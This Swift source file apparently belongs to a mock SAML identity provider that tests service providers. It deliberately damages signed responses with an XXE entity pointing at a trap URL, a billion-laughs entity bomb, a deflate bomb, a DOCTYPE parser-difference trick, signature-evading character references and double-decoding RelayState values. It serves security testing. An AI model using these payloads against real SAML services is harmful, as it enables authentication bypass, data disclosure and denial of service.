import Bytes
import Compression
import Directory
import Worlds
import XML

// What is done to the text after everything is signed.

extension SAMLForgery {
  /// Writes the Response once more, where a damage is one of the text and not of the tree.
  func write(_ response: XMLElement, to form: inout SAMLForm) {
    for fault in damage.faults {
      switch fault {
      case .characterReferences: form.bytes = Self.referring(form.bytes)
      case .parserDifference:
        let type = "<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED \"\(XMLNamespace.signature)\">]>"
        form.bytes = Array(type.utf8) + form.bytes
        form.shown = type + form.shown
      case .externalEntity:
        declare("<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM \"\(trap)\">]>", in: response, &form)
      case .entityBomb: declare(Self.bomb, in: response, &form)
      case .bomb: form.bytes = Deflate.pack(form.bytes + [UInt8](repeating: 0x20, count: Self.bombBytes)) ?? form.bytes
      case .plusInRelayState: form.relayState = Self.extended(form.relayState)
      default: continue
      }
    }
  }

  private static let bombBytes = 50_000_000

  /// Nine entities, of which each is ten times the one before: a billion times three letters.
  private static let bomb: String = {
    var type = "<!DOCTYPE samlp:Response [<!ENTITY x0 \"lol\">"
    for level in 1...9 {
      type += "<!ENTITY x\(level) \"\(String(repeating: "&x\(level - 1);", count: 10))\">"
    }
    return type + "<!ENTITY x \"&x9;\">]>"
  }()

  /// Puts an entity to the end of the user's name, and the document type that declares it to the front.
  private func declare(_ type: String, in response: XMLElement, _ form: inout SAMLForm) {
    let place = "MOCKIDP-\(mark)"
    var tree = response
    tree.change("NameID") { $0.children.append(.text(place)) }
    func text(_ wire: String) -> String {
      guard let range = wire.firstPlace(of: place) else { return type + wire }
      return type + wire[..<range.lowerBound] + "&x;" + wire[range.upperBound...]
    }
    form.bytes = Array(text(tree.wire).utf8)
    form.shown = text(tree.wire(hiding: "SignatureValue"))
  }

  /// The first letter of every text as a reference to the character; signatures stay as they are.
  static func referring(_ bytes: [UInt8]) -> [UInt8] {
    var output: [UInt8] = []
    output.reserveCapacity(bytes.count + 1_024)
    var isFirst = false
    var signatures = 0
    for (index, byte) in bytes.enumerated() {
      if byte == 0x3C {
        let rest = bytes[(index + 1)...].prefix { $0 != 0x20 && $0 != 0x3E }
        let name = String(decoding: rest, as: UTF8.self)
        if name.hasSuffix("Signature") { signatures += name.hasPrefix("/") ? -1 : 1 }
      }
      if isFirst, signatures == 0, ASCII.isLetter(byte) {
        output.append(bytesOf: "&#\(byte);")
      } else {
        output.append(byte)
      }
      isFirst = byte == 0x3E
    }
    return output
  }

  /// An address in the state gets a query with what is often decoded twice. A state that is not an address is the app's own and stays.
  static func extended(_ state: String?) -> String? {
    guard let state, !state.isEmpty else { return "plus=a+b&equals=c=d" }
    guard state.hasPrefix("/") || state.hasPrefix("http") else { return state }
    return state + (state.utf8.contains(0x3F) ? "&" : "?") + "plus=a+b&equals=c=d"
  }
}

/// IDs that are the same each time.
enum SeededID {
  /// What `replay` gives the messages of an app: who has seen the last one knows this one.
  static func replayed(_ audience: String) -> String { "\(SeededDirectory.derived("SAML replay", audience))" }
}
